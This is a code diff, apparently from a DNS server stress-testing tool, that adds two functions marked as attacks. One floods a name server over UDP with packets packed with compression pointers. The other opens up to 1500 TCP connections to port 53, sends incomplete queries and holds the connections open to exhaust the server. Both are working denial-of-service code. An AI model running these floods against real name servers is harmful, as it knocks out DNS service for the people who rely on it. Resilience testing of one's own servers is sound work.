@@ -8,6 +8,7 @@ import random
 import resource
 import socket
 import sys
+import time
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -69,6 +70,35 @@ def stream_questions() -> None:
             in_background(lambda: read_all(sock))
             while True:
                 sock.sendall(b"".join(len(one).to_bytes(2, "big") + one for one in (question() for _ in range(50))))
+
+    again_and_again(work)
+
+
+@attack
+def compressed_questions() -> None:
+    """Each with as many names of as many labels as fit."""
+    name = b"\1a" * 126 + b"\0\0\1\0\1"
+    more = (4084 - len(name)) // 6
+    data = bytes(4) + (1 + more).to_bytes(2, "big") + bytes(6) + name + b"\xc0\x0c\0\1\0\1" * more
+
+    def work() -> None:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+            sock.connect((name_server(), 53))
+            while True:
+                sock.send(data)
+
+    again_and_again(work)
+
+
+@attack
+def unfinished_questions() -> None:
+    def work() -> None:
+        sock = socket.create_connection((name_server(), 53))
+        sock.sendall(b"\x0f\xff" + bytes(4000))
+        KEPT.append(sock)
+        while len(KEPT) >= 1500:
+            time.sleep(0.1)
+            KEPT.pop(0).close()
 
     again_and_again(work)
 
